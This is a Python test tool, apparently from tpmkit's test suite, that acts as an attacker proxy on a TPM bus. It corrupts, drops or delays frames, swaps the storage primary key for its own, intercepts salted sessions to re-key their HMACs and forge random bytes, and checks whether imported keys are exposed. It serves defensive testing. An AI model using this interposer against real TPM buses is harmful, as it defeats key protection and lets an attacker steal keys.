#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""An attacker on the TPM bus, for the tests of tpmkit's bus protection.

tpmkit reaches swtpm through the tss2 "swtpm" TCTI: raw TPM commands on a
data port P, swtpm's control channel on P+1. This proxy listens on both and
forwards to the real swtpm on SP and SP+1. Control traffic passes through
untouched; on the data port it plays the attacker chosen by --mode:

  pass          forward everything unchanged
  flip-cmd      flip the low bit of the last byte of the parameter area of
                the Nth command whose code is --match
  flip-rsp      the same in the Nth matching response
  truncate-rsp  send the Nth matching response 4 bytes short (its header
                still claims the full size), then close the connection
  garbage-rsp   replace everything after the Nth matching response's header
                with random bytes of the same length
  drop-rsp      let the TPM run the Nth matching command, never answer it:
                close the connection
  slow-rsp      hold the Nth matching response for --delay seconds, then
                send it unchanged: a slow chip, not a hung one
  swap-srk      put the attacker's own P-256 public key into every ECC
                P-256 TPM2_CreatePrimary response (and into TPM2_ReadPublic
                of such a primary), with name and sizes to match; response
                HMACs of unsalted sessions (whose key anyone can compute,
                e.g. tpm2-tools' default one) are redone to match as well
  swap-parent   put the attacker's P-256 point into TPM2_ReadPublic
                responses of persistent ECC keys (0x81xxxxxx), as ESYS
                reads them for a parent, and check every TPM2_Import: an
                "act swap-parent: duplicate opens" line says the key being
                imported was wrapped to the attacker's key (a leak); the
                storage primary made by CreatePrimary is left alone
  mitm-random   swap-srk, and a full interposer on every session salted to
                a swapped primary: the caller's salt is recovered with the
                attacker's key, the TPM gets a salt of the proxy's own, and
                each command in the session is re-keyed between the two
                session keys (HMACs, and the encrypted first parameter both
                ways). TPM2_GetRandom in such a session is answered with
                attacker-chosen bytes (0x41 repeated), the TPM's logged.
                A command the proxy cannot re-key (a handle's name or an
                authValue it does not know) is logged and passed through.

--match CC (hex) picks the command code (default: any); --nth N the Nth
match counted over all connections (default 1; 0: every match).

  tpm_proxy.py --listen P --tpm SP --mode MODE [--log FILE] [--match CC]
               [--nth N] [--delay S] [--ready FILE]

--ready FILE is written (atomically, holding the proxy's pid) once both
ports listen. The proxy runs until killed (SIGTERM). --log FILE gets one
line per command ("cmd 0x17b len 12") and response ("rsp 0x17b rc 0x0 len
44"), and one "act ..." line for each thing the attacker did.
"""
import os

# The proxy's own OpenSSL (under hashlib and cryptography) must not read a
# test's configuration: it would load tpmkit and seed itself from the TPM,
# through this very proxy, before it listens. Dropped before OpenSSL starts.
for _name in ('OPENSSL_CONF', 'OPENSSL_MODULES'):
    os.environ.pop(_name, None)

import argparse  # noqa: E402
import dataclasses  # noqa: E402
import hashlib  # noqa: E402
import hmac  # noqa: E402
import signal  # noqa: E402
import socket  # noqa: E402
import socketserver  # noqa: E402
import struct  # noqa: E402
import sys  # noqa: E402
import threading  # noqa: E402
import time  # noqa: E402

from cryptography.hazmat.primitives.asymmetric import ec  # noqa: E402
from cryptography.hazmat.primitives.ciphers import (  # noqa: E402
    Cipher, algorithms, modes)

MODES = ('pass', 'flip-cmd', 'flip-rsp', 'truncate-rsp', 'garbage-rsp',
         'drop-rsp', 'slow-rsp', 'swap-srk', 'swap-parent', 'mitm-random')
# The modes that parse and follow the traffic.
FOLLOWING = ('swap-srk', 'swap-parent', 'mitm-random')

ST_NO_SESSIONS = 0x8001
ST_SESSIONS = 0x8002

CC_CREATE_PRIMARY = 0x131
CC_LOAD = 0x157
CC_IMPORT = 0x156
CC_CONTEXT_LOAD = 0x161
CC_CONTEXT_SAVE = 0x162
CC_FLUSH_CONTEXT = 0x165
CC_LOAD_EXTERNAL = 0x167
CC_NV_READ_PUBLIC = 0x169
CC_READ_PUBLIC = 0x173
CC_START_AUTH_SESSION = 0x176
CC_GET_RANDOM = 0x17B
CC_CREATE_LOADED = 0x191

RH_NULL = 0x40000007
ALG_AES = 0x0006
ALG_NULL = 0x0010
ALG_ECDAA = 0x001A
ALG_ECC = 0x0023
ALG_CFB = 0x0043
ALG_SHA256 = 0x000B
ECC_NIST_P256 = 0x0003
HASHES = {0x0004: 'sha1', 0x000B: 'sha256', 0x000C: 'sha384',
          0x000D: 'sha512'}

SESSION_CONTINUE = 0x01
SESSION_DECRYPT = 0x20
SESSION_ENCRYPT = 0x40

# Handles in the handle area of each command (TPM 2.0 Part 3). Needed to
# find where the session area and the parameters start; a command not
# listed here is forwarded without being looked into.
CMD_HANDLES = {
    0x11F: 2, 0x120: 2, 0x121: 1, 0x122: 2, 0x124: 1, 0x125: 1, 0x126: 1,
    0x127: 1, 0x128: 1, 0x129: 1, 0x12A: 1, 0x12B: 1, 0x12C: 1, 0x12D: 1,
    0x12E: 1, 0x12F: 2, 0x130: 1, 0x131: 1, 0x132: 1, 0x133: 2, 0x134: 2,
    0x135: 2, 0x136: 2, 0x137: 2, 0x138: 2, 0x139: 1, 0x13A: 1, 0x13B: 1,
    0x13C: 1, 0x13D: 1, 0x13E: 1, 0x13F: 1, 0x140: 1, 0x141: 0, 0x142: 0,
    0x143: 0, 0x144: 0, 0x145: 0, 0x146: 0, 0x147: 2, 0x148: 2, 0x149: 3,
    0x14A: 2, 0x14B: 2, 0x14C: 2, 0x14D: 3, 0x14E: 2, 0x14F: 2, 0x150: 2,
    0x151: 2, 0x152: 2, 0x153: 1, 0x154: 1, 0x155: 1, 0x156: 1, 0x157: 1,
    0x158: 1, 0x159: 1, 0x15B: 1, 0x15C: 1, 0x15D: 1, 0x15E: 1, 0x160: 2,
    0x161: 0, 0x162: 1, 0x163: 1, 0x164: 1, 0x165: 0, 0x167: 0, 0x168: 1,
    0x169: 1, 0x16A: 1, 0x16B: 1, 0x16C: 1, 0x16D: 1, 0x16E: 1, 0x16F: 1,
    0x170: 1, 0x171: 1, 0x172: 1, 0x173: 1, 0x174: 1, 0x176: 2, 0x177: 1,
    0x178: 0, 0x179: 0, 0x17A: 0, 0x17B: 0, 0x17C: 0, 0x17D: 0, 0x17E: 0,
    0x17F: 1, 0x180: 1, 0x181: 0, 0x182: 1, 0x183: 1, 0x184: 3, 0x185: 2,
    0x186: 0, 0x187: 1, 0x188: 1, 0x189: 1, 0x18A: 0, 0x18B: 1, 0x18C: 1,
    0x18D: 1, 0x18E: 0, 0x18F: 1, 0x190: 1, 0x191: 1, 0x192: 3, 0x193: 1,
}
# The commands whose response starts with a handle.
RSP_HANDLES = {0x131: 1, 0x157: 1, 0x15B: 1, 0x161: 1, 0x167: 1, 0x176: 1,
               0x186: 1, 0x191: 1}
# Handle types whose TPM name is the handle itself: PCRs, sessions and the
# permanent handles. Other names the proxy must have seen go by.
NAME_IS_HANDLE = (0x00, 0x02, 0x03, 0x40)

# Far more than any TPM command: a bigger size field is not a TPM frame.
MAX_FRAME = 1 << 20


class FrameError(Exception):
    pass


class Reader:
    """Reads big-endian TPM structures; ValueError when the data is short."""

    def __init__(self, data, pos=0):
        self.data = data
        self.pos = pos

    def take(self, n):
        if self.pos + n > len(self.data):
            raise ValueError('truncated structure')
        out = self.data[self.pos:self.pos + n]
        self.pos += n
        return out

    def u8(self):
        return self.take(1)[0]

    def u16(self):
        return struct.unpack('>H', self.take(2))[0]

    def u32(self):
        return struct.unpack('>I', self.take(4))[0]

    def tpm2b(self):
        return self.take(self.u16())

    def done(self):
        return self.pos == len(self.data)


def b2(data):
    """A TPM2B: the size, then the bytes."""
    return struct.pack('>H', len(data)) + data


def be32(value):
    return struct.pack('>I', value)


@dataclasses.dataclass
class Auth:
    """One session of a command's or a response's authorization area."""
    handle: int
    nonce: bytes
    attrs: int
    hmac: bytes


class Command:
    """A TPM command taken apart, when its layout is known (parsed)."""

    def __init__(self, raw):
        self.raw = raw
        self.tag, _, self.cc = struct.unpack('>HII', raw[:10])
        self.handles, self.auths, self.params = [], [], b''
        self.parsed = False
        count = CMD_HANDLES.get(self.cc)
        if count is None:
            return
        try:
            r = Reader(raw, 10)
            self.handles = [r.u32() for _ in range(count)]
            if self.tag == ST_SESSIONS:
                area = Reader(r.take(r.u32()))
                while not area.done():
                    self.auths.append(Auth(area.u32(), area.tpm2b(),
                                           area.u8(), area.tpm2b()))
            self.params = raw[r.pos:]
            self.parsed = True
        except ValueError:
            pass

    def marshal(self):
        body = b''.join(be32(h) for h in self.handles)
        if self.tag == ST_SESSIONS:
            area = b''.join(be32(a.handle) + b2(a.nonce) + bytes([a.attrs])
                            + b2(a.hmac) for a in self.auths)
            body += be32(len(area)) + area
        body += self.params
        return struct.pack('>HII', self.tag, 10 + len(body), self.cc) + body


class Response:
    """A successful TPM response taken apart, when its layout is known."""

    def __init__(self, raw, cc):
        self.raw = raw
        self.cc = cc
        self.tag, _, self.rc = struct.unpack('>HII', raw[:10])
        self.handles, self.auths, self.params = [], [], b''
        self.params_end = 0  # offset just past the parameters in raw
        self.parsed = False
        self.changed = False
        if self.rc != 0 or cc not in CMD_HANDLES:
            return
        try:
            r = Reader(raw, 10)
            self.handles = [r.u32() for _ in range(RSP_HANDLES.get(cc, 0))]
            if self.tag == ST_SESSIONS:
                self.params = r.take(r.u32())
                self.params_end = r.pos
                while not r.done():
                    self.auths.append(Auth(None, r.tpm2b(), r.u8(),
                                           r.tpm2b()))
            else:
                self.params = raw[r.pos:]
                self.params_end = len(raw)
            self.parsed = True
        except ValueError:
            pass

    def marshal(self):
        if not self.changed:
            return self.raw
        body = b''.join(be32(h) for h in self.handles)
        if self.tag == ST_SESSIONS:
            body += be32(len(self.params)) + self.params
            body += b''.join(b2(a.nonce) + bytes([a.attrs]) + b2(a.hmac)
                             for a in self.auths)
        else:
            body += self.params
        return struct.pack('>HII', self.tag, 10 + len(body), self.rc) + body


# --- the session arithmetic (TPM 2.0 Part 1, 11.4.10 and 19.6) ----------

def kdfa(key, label, context_u, context_v, bits):
    """KDFa with SHA-256: SP 800-108 counter mode over HMAC."""
    out = b''
    counter = 1
    while len(out) * 8 < bits:
        out += hmac.new(key, be32(counter) + label + b'\0' + context_u
                        + context_v + be32(bits), 'sha256').digest()
        counter += 1
    return out[:bits // 8]


def kdfe(z, label, party_u, party_v, bits):
    """KDFe with SHA-256: the SP 800-56A single-step KDF."""
    out = b''
    counter = 1
    while len(out) * 8 < bits:
        out += hashlib.sha256(be32(counter) + z + label + b'\0' + party_u
                              + party_v).digest()
        counter += 1
    return out[:bits // 8]


def hmac256(key, *parts):
    return hmac.new(key, b''.join(parts), 'sha256').digest()


def sha256(*parts):
    return hashlib.sha256(b''.join(parts)).digest()


def cfb(key, newer, older, data, encrypt):
    """Parameter encryption: AES-128-CFB, key and IV from KDFa("CFB")."""
    key_iv = kdfa(key, b'CFB', newer, older, 256)
    cipher = Cipher(algorithms.AES(key_iv[:16]), modes.CFB(key_iv[16:]))
    ctx = cipher.encryptor() if encrypt else cipher.decryptor()
    return ctx.update(data) + ctx.finalize()


def p256_public(x, y):
    """ValueError unless (x, y) is a point on P-256."""
    if len(x) > 32 or len(y) > 32:
        raise ValueError('coordinate too long')
    octets = b'\x04' + x.rjust(32, b'\0') + y.rjust(32, b'\0')
    return ec.EllipticCurvePublicKey.from_encoded_point(ec.SECP256R1(),
                                                        octets)


def point_of(key):
    numbers = key.public_numbers()
    return numbers.x.to_bytes(32, 'big'), numbers.y.to_bytes(32, 'big')


def name_of(area, name_alg):
    """An object's TPM name: nameAlg || H(TPMT_PUBLIC)."""
    return (struct.pack('>H', name_alg)
            + hashlib.new(HASHES[name_alg], area).digest())


def ecc_unique(area):
    """(nameAlg, offset of unique, x, y) of a marshalled TPMT_PUBLIC of an
    ECC P-256 key; None for anything else."""
    try:
        r = Reader(area)
        kind, name_alg = r.u16(), r.u16()
        r.u32()    # objectAttributes
        r.tpm2b()  # authPolicy
        if kind != ALG_ECC:
            return None
        if r.u16() != ALG_NULL:  # symmetric: keyBits and mode follow
            r.take(4)
        scheme = r.u16()
        if scheme != ALG_NULL:   # hashAlg, and ECDAA's count
            r.take(4 if scheme == ALG_ECDAA else 2)
        curve = r.u16()
        if r.u16() != ALG_NULL:  # kdf: hashAlg
            r.take(2)
        start = r.pos
        x, y = r.tpm2b(), r.tpm2b()
    except ValueError:
        return None
    if not r.done() or curve != ECC_NIST_P256 or name_alg not in HASHES:
        return None
    return name_alg, start, x, y


def context_blob(data):
    """The contextBlob of a marshalled TPMS_CONTEXT: what identifies a
    saved context when it comes back in TPM2_ContextLoad."""
    r = Reader(data)
    r.take(16)  # sequence, savedHandle, hierarchy
    return r.tpm2b()


# --- what the attacker keeps track of ------------------------------------

@dataclasses.dataclass
class Primary:
    """A primary whose public key the proxy replaced."""
    x: bytes          # the real point, from the TPM
    y: bytes
    hierarchy: int


@dataclasses.dataclass
class Session:
    """A session the proxy can key. Salted to a swapped primary, tpmkit
    holds key_a and the TPM key_b; both see the same nonces."""
    handle: int
    key_a: bytes
    key_b: bytes
    nonce_tpm: bytes
    cfb: bool         # AES-128-CFB parameter encryption (or none)
    salted: bool      # salted to a swapped primary (else: empty key)


class Exchange:
    """One command and its response on one connection."""

    def __init__(self, raw):
        self.cc = struct.unpack('>I', raw[6:10])[0]
        self.matched = False
        self.cmd = None
        self.ours = []          # indices of the sessions the proxy keys
        self.translated = False  # their HMACs were re-keyed
        self.decrypt = None     # index of the session encrypting the
        self.encrypt = None     # command's / the response's first parameter
        self.salts = None       # StartAuthSession: (nonceCaller, A, B, cfb)
        self.bound = False      # StartAuthSession: with a bind entity


class Proxy:
    def __init__(self, args):
        self.args = args
        self.mode = args.mode
        self.lock = threading.Lock()   # all of the attacker's state
        self.log_lock = threading.Lock()
        self.logfile = open(args.log, 'a', encoding='utf-8') \
            if args.log else None
        self.matches = 0
        self.attacker = ec.generate_private_key(ec.SECP256R1())
        self.attacker_x, self.attacker_y = point_of(self.attacker.public_key())
        self.primaries = {}  # handle -> Primary
        self.names = {}      # handle -> (name tpmkit knows, name the TPM has)
        self.saved = {}      # context blob -> (names, Primary or None)
        self.sessions = {}   # handle -> Session

    def log(self, line):
        if self.logfile is None:
            return
        with self.log_lock:
            self.logfile.write(line + '\n')
            self.logfile.flush()

    def act(self, what):
        self.log('act ' + what)

    # --- connections ------------------------------------------------------

    def serve_data(self, client):
        try:
            upstream = socket.create_connection(('127.0.0.1', self.args.tpm))
        except OSError as e:
            self.log(f'cannot reach the TPM on port {self.args.tpm}: {e}')
            return
        for s in (client, upstream):
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            while True:
                raw = read_frame(client)
                if raw is None:
                    return
                ex = Exchange(raw)
                with self.lock:
                    raw = self.on_command(ex, raw)
                upstream.sendall(raw)
                rsp = read_frame(upstream)
                if rsp is None:
                    self.log(f'TPM closed the connection after {ex.cc:#x}')
                    return
                with self.lock:
                    out, close = self.on_response(ex, rsp)
                if ex.matched and self.mode == 'slow-rsp':
                    self.act(f'slow-rsp {ex.cc:#x}: held {self.args.delay} s')
                    time.sleep(self.args.delay)
                if out:
                    client.sendall(out)
                if close:
                    return
        except (OSError, FrameError) as e:
            self.log(f'connection ended: {e}')
        finally:
            upstream.close()

    def serve_control(self, client):
        try:
            upstream = socket.create_connection(('127.0.0.1',
                                                 self.args.tpm + 1))
        except OSError as e:
            self.log(f'cannot reach the TPM control port: {e}')
            return
        back = threading.Thread(target=pump, args=(upstream, client),
                                daemon=True)
        back.start()
        pump(client, upstream)
        back.join()
        upstream.close()

    # --- the two directions -----------------------------------------------

    def on_command(self, ex, raw):
        args = self.args
        self.log(f'cmd {ex.cc:#x} len {len(raw)}')
        if args.match is None or ex.cc == args.match:
            self.matches += 1
            ex.matched = args.nth == 0 or self.matches == args.nth
        if self.mode == 'flip-cmd' and ex.matched:
            return self.flip_command(raw)
        if self.mode not in FOLLOWING:
            return raw
        ex.cmd = Command(raw)
        if not ex.cmd.parsed:
            if ex.cmd.tag == ST_SESSIONS and self.sessions:
                self.act(f'{ex.cc:#x}: layout unknown, passed through')
            return raw
        changed = False
        try:
            if ex.cc == CC_IMPORT and self.mode == 'swap-parent':
                self.check_import(ex.cmd)
            if ex.cc == CC_START_AUTH_SESSION:
                changed = self.start_session(ex)
            ex.ours = [i for i, a in enumerate(ex.cmd.auths)
                       if a.handle in self.sessions]
            if ex.ours:
                changed = self.rekey_command(ex) or changed
        except ValueError as e:
            self.act(f'{ex.cc:#x}: command not understood ({e}), passed '
                     'through')
            ex.salts, ex.translated = None, False
            return raw
        return ex.cmd.marshal() if changed else raw

    def on_response(self, ex, raw):
        """The bytes for tpmkit, and whether to close the connection."""
        rc = struct.unpack('>I', raw[6:10])[0]
        self.log(f'rsp {ex.cc:#x} rc {rc:#x} len {len(raw)}')
        mode = self.mode
        if ex.matched and mode == 'flip-rsp':
            return self.flip_response(ex, raw), False
        if ex.matched and mode == 'truncate-rsp':
            self.act(f'truncate-rsp {ex.cc:#x}: sent {len(raw) - 4} of '
                     f'{len(raw)} bytes, connection closed')
            return raw[:-4], True
        if ex.matched and mode == 'garbage-rsp':
            self.act(f'garbage-rsp {ex.cc:#x}: {len(raw) - 10} bytes after '
                     f'the header replaced (were {raw[10:].hex()})')
            return raw[:10] + os.urandom(len(raw) - 10), False
        if ex.matched and mode == 'drop-rsp':
            self.act(f'drop-rsp {ex.cc:#x}: response withheld, connection '
                     'closed')
            return None, True
        if ex.cmd is None or not ex.cmd.parsed:
            return raw, False
        rsp = Response(raw, ex.cc)
        if not rsp.parsed:
            return raw, False
        try:
            if ex.translated:
                self.rekey_response_in(ex, rsp)
            self.track(ex, rsp)
            if ex.translated:
                self.rekey_response_out(ex, rsp)
            self.roll_nonces(ex, rsp)
        except ValueError as e:
            self.act(f'{ex.cc:#x}: response not understood ({e}), '
                     'passed through')
            return raw, False
        return rsp.marshal(), False

    # --- flipping bits ----------------------------------------------------

    def flip(self, what, cc, raw, offset):
        out = bytearray(raw)
        out[offset] ^= 0x01
        self.act(f'{what} {cc:#x}: byte {offset} {raw[offset]:#04x} -> '
                 f'{out[offset]:#04x}')
        return bytes(out)

    def flip_command(self, raw):
        cmd = Command(raw)
        # The parameters end a command: their last byte is the command's.
        if (cmd.parsed and not cmd.params) or len(raw) <= 10:
            self.act(f'flip-cmd {cmd.cc:#x}: no parameters, nothing flipped')
            return raw
        return self.flip('flip-cmd', cmd.cc, raw, len(raw) - 1)

    def flip_response(self, ex, raw):
        rsp = Response(raw, ex.cc)
        if rsp.parsed and rsp.params:
            return self.flip('flip-rsp', ex.cc, raw, rsp.params_end - 1)
        if (not rsp.parsed and rsp.rc == 0 and rsp.tag == ST_NO_SESSIONS
                and len(raw) > 10):
            # Layout unknown, but without sessions parameters end it.
            return self.flip('flip-rsp', ex.cc, raw, len(raw) - 1)
        self.act(f'flip-rsp {ex.cc:#x}: no parameters found (rc '
                 f'{rsp.rc:#x}), nothing flipped')
        return raw

    # --- swap-srk: the attacker's key in place of the TPM's ---------------

    def swap_area(self, area):
        """The public area with the attacker's point, or None."""
        found = ecc_unique(area)
        if found is None:
            return None
        name_alg, start, x, y = found
        fake = area[:start] + b2(self.attacker_x) + b2(self.attacker_y)
        return fake, name_alg, x, y

    def track(self, ex, rsp):
        """Follow objects and sessions through the flow, rewriting what
        would give the attacker away."""
        cmd, cc = ex.cmd, ex.cc
        r = Reader(rsp.params)
        if cc == CC_CREATE_PRIMARY and self.mode != 'swap-parent':
            self.swap_create_primary(ex, rsp)
        elif cc == CC_READ_PUBLIC and cmd.handles[0] in self.primaries:
            self.swap_read_public(ex, rsp)
        elif (cc == CC_READ_PUBLIC and self.mode == 'swap-parent'
              and cmd.handles[0] >> 24 == 0x81):
            self.swap_parent(ex, rsp)
        elif cc in (CC_LOAD, CC_LOAD_EXTERNAL, CC_CREATE_LOADED):
            if cc == CC_CREATE_LOADED:
                r.tpm2b()  # outPrivate
                r.tpm2b()  # outPublic
            name = r.tpm2b()
            self.names[rsp.handles[0]] = (name, name)
            self.primaries.pop(rsp.handles[0], None)  # a handle reused
        elif cc in (CC_READ_PUBLIC, CC_NV_READ_PUBLIC):
            r.tpm2b()
            name = r.tpm2b()
            self.names[cmd.handles[0]] = (name, name)
        elif cc == CC_CONTEXT_SAVE:
            handle = cmd.handles[0]
            if handle in self.names:
                self.saved[context_blob(rsp.params)] = (
                    self.names[handle], self.primaries.get(handle))
        elif cc == CC_CONTEXT_LOAD:
            known = self.saved.get(context_blob(cmd.params))
            if known is not None:
                handle = rsp.handles[0]
                self.names[handle] = known[0]
                if known[1] is not None:
                    self.primaries[handle] = known[1]
                    self.act(f'swap-srk: swapped primary reloaded as '
                             f'{handle:#010x}')
        elif cc == CC_FLUSH_CONTEXT:
            handle = Reader(cmd.params).u32()
            self.names.pop(handle, None)
            self.primaries.pop(handle, None)
            if self.sessions.pop(handle, None) is not None:
                self.act(f'session {handle:#010x} flushed')
        elif cc == CC_START_AUTH_SESSION and ex.salts is not None:
            self.new_session(ex, rsp)
        elif cc == CC_GET_RANDOM and ex.translated:
            salted = [self.sessions[cmd.auths[i].handle].salted
                      for i in ex.ours if cmd.auths[i].handle in self.sessions]
            if any(salted):
                self.serve_random(ex, rsp)

    def swap_create_primary(self, ex, rsp):
        r = Reader(rsp.params)
        area = r.tpm2b()
        middle = r.pos
        r.tpm2b()    # creationData
        r.tpm2b()    # creationHash
        r.take(6)    # creationTicket: tag, hierarchy,
        r.tpm2b()    # and digest
        middle = rsp.params[middle:r.pos]
        real_name = r.tpm2b()
        swapped = self.swap_area(area)
        handle = rsp.handles[0]
        if not r.done() or swapped is None:
            self.act('swap-srk: primary is not ECC P-256, left alone')
            self.names[handle] = (real_name, real_name)
            self.primaries.pop(handle, None)
            return
        fake, name_alg, x, y = swapped
        fake_name = name_of(fake, name_alg)
        rsp.params = b2(fake) + middle + b2(fake_name)
        rsp.changed = True
        self.primaries[handle] = Primary(x, y, ex.cmd.handles[0])
        self.names[handle] = (fake_name, real_name)
        self.act(f'swap-srk {handle:#010x}: point x {x.hex()} -> '
                 f'{self.attacker_x.hex()}, name {real_name.hex()} -> '
                 f'{fake_name.hex()}')

    def rewrite_read_public(self, rsp, qualifier):
        """Put the attacker's point into a TPM2_ReadPublic response, with
        the name and the qualified name (over `qualifier`, the parent's
        name or a hierarchy handle) to match. False if the area is not an
        ECC P-256 one in clear."""
        r = Reader(rsp.params)
        area = r.tpm2b()
        r.tpm2b()
        r.tpm2b()
        swapped = self.swap_area(area)
        if not r.done() or swapped is None:
            return False
        fake, name_alg, _, _ = swapped
        fake_name = name_of(fake, name_alg)
        qualified = name_of(qualifier + fake_name, name_alg)
        rsp.params = b2(fake) + b2(fake_name) + b2(qualified)
        rsp.changed = True
        return True

    def swap_read_public(self, ex, rsp):
        handle = ex.cmd.handles[0]
        # A primary's qualified name hashes its hierarchy's (the handle).
        hierarchy = be32(self.primaries[handle].hierarchy)
        if self.rewrite_read_public(rsp, hierarchy):
            self.act(f'swap-srk {handle:#010x}: TPM2_ReadPublic swapped too')

    def swap_parent(self, ex, rsp):
        handle = ex.cmd.handles[0]
        if self.rewrite_read_public(rsp, be32(handle)):
            self.act(f'swap-parent {handle:#010x}: TPM2_ReadPublic swapped')
        else:
            self.act(f'swap-parent {handle:#010x}: TPM2_ReadPublic not an'
                     ' ECC P-256 area in clear, left alone')

    def check_import(self, cmd):
        """Would the attacker's key open this TPM2_Import's duplicate?
        Its seed is recovered by ECDH with the attacker's key and checked
        against the duplicate's outer HMAC (Part 1, 23.3: KDFe "DUPLICATE",
        KDFa "INTEGRITY")."""
        try:
            r = Reader(cmd.params)
            r.tpm2b()                      # encryptionKey
            area = r.tpm2b()               # objectPublic
            dup = Reader(r.tpm2b())        # duplicate
            seed_r = Reader(r.tpm2b())     # inSymSeed: an ECC point
            outer, sensitive = dup.tpm2b(), dup.data[dup.pos:]
            qe_x, qe_y = seed_r.tpm2b(), seed_r.tpm2b()
            z = self.attacker.exchange(ec.ECDH(), p256_public(qe_x, qe_y))
        except ValueError as e:
            self.act(f'swap-parent Import: not an ECC seed ({e})')
            return
        seed = kdfe(z, b'DUPLICATE', qe_x, self.attacker_x, 256)
        key = kdfa(seed, b'INTEGRITY', b'', b'', 256)
        name = name_of(area, struct.unpack('>H', area[2:4])[0])
        if hmac.compare_digest(hmac256(key, sensitive, name), outer):
            self.act('swap-parent: duplicate opens with the attacker\'s'
                     ' key: the imported private key is exposed')
        else:
            self.act('swap-parent: duplicate does not open with the'
                     ' attacker\'s key')

    # --- sessions whose keys the attacker knows ----------------------------

    def start_session(self, ex):
        """Follow the sessions the proxy can key: unsalted ones and, in
        mitm-random, those salted to a swapped primary. A bound session's
        key also holds the bind entity's authValue: taken as empty (wrong
        guesses show when the caller's first HMAC does not verify). True
        if the command was changed."""
        cmd = ex.cmd
        tpm_key, bind = cmd.handles
        r = Reader(cmd.params)
        nonce_caller = r.tpm2b()
        salt_at = r.pos
        secret = r.tpm2b()
        rest_at = r.pos
        r.u8()  # sessionType
        sym = r.u16()
        sym_detail = r.take(4) if sym != ALG_NULL else b''
        auth_hash = r.u16()
        if not r.done() or auth_hash != ALG_SHA256:
            return False
        aes_cfb = sym == ALG_NULL or (
            sym == ALG_AES and sym_detail == struct.pack('>HH', 128, ALG_CFB))
        ex.bound = bind != RH_NULL
        if tpm_key == RH_NULL:
            # No salt: anyone can compute the session key (with empty
            # authValues), so the attacker can rewrite what it covers.
            ex.salts = (nonce_caller, b'', b'', aes_cfb)
            return False
        if self.mode != 'mitm-random' or tpm_key not in self.primaries:
            return False
        if not secret:
            self.act(f'mitm StartAuthSession on {tpm_key:#010x}: no salt, '
                     'passed through')
            return False
        return self.intercept_salt(ex, nonce_caller, secret, aes_cfb,
                                   (salt_at, rest_at))

    def intercept_salt(self, ex, nonce_caller, secret, aes_cfb, span):
        """Learn the salt tpmkit chose; give the TPM one of our own in its
        place (span: where encryptedSalt is in the parameters)."""
        cmd = ex.cmd
        tpm_key = cmd.handles[0]
        primary = self.primaries[tpm_key]
        try:
            s = Reader(secret)
            qe_x, qe_y = s.tpm2b(), s.tpm2b()
            caller = p256_public(qe_x, qe_y)
            tpm = p256_public(primary.x, primary.y)
        except ValueError as e:
            self.act(f'mitm StartAuthSession: bad point ({e}), passed '
                     'through')
            return False
        # The caller (tpmkit) encrypted its salt to the attacker's point.
        z = self.attacker.exchange(ec.ECDH(), caller)
        salt_a = kdfe(z, b'SECRET', qe_x, self.attacker_x, 256)
        # The TPM gets a salt the proxy makes for the real point.
        mine = ec.generate_private_key(ec.SECP256R1())
        mine_x, mine_y = point_of(mine.public_key())
        z = mine.exchange(ec.ECDH(), tpm)
        salt_b = kdfe(z, b'SECRET', mine_x, primary.x, 256)
        cmd.params = (cmd.params[:span[0]] + b2(b2(mine_x) + b2(mine_y))
                      + cmd.params[span[1]:])
        ex.salts = (nonce_caller, salt_a, salt_b, aes_cfb)
        self.act(f'mitm StartAuthSession on {tpm_key:#010x}: caller salt '
                 f'{salt_a.hex()}, TPM salt {salt_b.hex()}')
        return True

    def new_session(self, ex, rsp):
        nonce_caller, salt_a, salt_b, aes_cfb = ex.salts
        nonce_tpm = Reader(rsp.params).tpm2b()
        handle = rsp.handles[0]
        bound = ', bind authValue taken as empty' if ex.bound else ''
        if not salt_a and not ex.bound:
            # Neither salt nor bind: the session key is empty.
            self.sessions[handle] = Session(handle, b'', b'', nonce_tpm,
                                            aes_cfb, False)
            self.act(f'session {handle:#010x}: unsalted, unbound: key empty, '
                     'followed')
            return
        s = Session(handle,
                    kdfa(salt_a, b'ATH', nonce_tpm, nonce_caller, 256),
                    kdfa(salt_b, b'ATH', nonce_tpm, nonce_caller, 256),
                    nonce_tpm, aes_cfb, bool(salt_a))
        self.sessions[handle] = s
        if not salt_a:
            self.act(f'session {handle:#010x}: unsalted{bound}: key '
                     f'{s.key_a.hex()}, followed')
            return
        self.act(f'mitm session {handle:#010x}: key A (caller) '
                 f'{s.key_a.hex()}, key B (TPM) {s.key_b.hex()}{bound}')

    def handle_names(self, handles):
        """(names tpmkit uses, names the TPM uses), or None if unknown."""
        a, b = [], []
        for h in handles:
            if h in self.names:
                pair = self.names[h]
            elif h >> 24 in NAME_IS_HANDLE:
                pair = (be32(h), be32(h))
            else:
                return None
            a.append(pair[0])
            b.append(pair[1])
        return b''.join(a), b''.join(b)

    def command_hmac(self, ex, i, key, cp_hash):
        """The HMAC of the command's session i (Part 1, 19.6.5)."""
        auths = ex.cmd.auths
        extra = b''
        # The first session also covers the nonces of other sessions that
        # encrypt; the proxy knows them only for its own sessions.
        if i == 0:
            others = []
            if ex.decrypt:
                others.append(ex.decrypt)
            if ex.encrypt and ex.encrypt != ex.decrypt:
                others.append(ex.encrypt)
            for j in others:
                extra += self.sessions[auths[j].handle].nonce_tpm
        a = auths[i]
        s = self.sessions[a.handle]
        return hmac256(key, cp_hash, a.nonce, s.nonce_tpm, extra,
                       bytes([a.attrs]))

    def rekey_command(self, ex):
        """HMACs (and encrypted first parameter) from key A to key B."""
        cmd, cc = ex.cmd, ex.cc
        auths = cmd.auths
        ex.decrypt = next((i for i, a in enumerate(auths)
                           if a.attrs & SESSION_DECRYPT), None)
        ex.encrypt = next((i for i, a in enumerate(auths)
                           if a.attrs & SESSION_ENCRYPT), None)
        names = self.handle_names(cmd.handles)
        handles = ' '.join(f'{auths[i].handle:#010x}' for i in ex.ours)
        if names is None:
            self.act(f'rekey {cc:#x}: a handle\'s name is unknown, session '
                     f'{handles} passed through')
            return False
        if 0 in ex.ours and any(
                j and auths[j].handle not in self.sessions
                for j in (ex.decrypt, ex.encrypt)):
            self.act(f'rekey {cc:#x}: encrypting session not ours, passed '
                     'through')
            return False
        for j in (ex.decrypt, ex.encrypt):
            if j in ex.ours and not self.sessions[auths[j].handle].cfb:
                self.act(f'rekey {cc:#x}: parameter encryption other than '
                         'AES-128-CFB, passed through')
                return False
        cc_be = be32(cc)
        cp_a = sha256(cc_be, names[0], cmd.params)
        for i in ex.ours:
